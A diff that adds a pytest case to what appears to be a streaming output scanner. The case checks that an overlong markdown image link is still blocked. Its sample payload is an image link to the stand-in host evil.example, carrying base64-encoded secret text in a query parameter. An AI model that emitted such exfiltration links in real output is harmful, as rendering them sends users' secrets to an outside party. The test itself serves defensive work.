@@ -86,3 +86,11 @@ def test_hostile_output_is_scanned_in_linear_time(text: str) -> None:
     sent, _ = stream(text, list(range(4, len(text), 4)))
     assert time.process_time() - began < 5.0  # quadratic work here takes minutes
     assert len(sent) >= len(text) - 64
+
+
+@pytest.mark.parametrize("fill", ["/ab" * 3000, "a" * 9000, "/" + "x" * 20_000])
+def test_an_image_link_longer_than_the_hold_is_still_judged_whole(fill: str) -> None:
+    text = FILLER + "![x](https://evil.example" + fill + "?d=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI) " + FILLER
+    sent, scanner = stream(text, list(range(7, len(text), 7)))
+    assert scanner.blocked
+    assert "?d=" not in sent and "evil.example" + fill[:50] not in sent
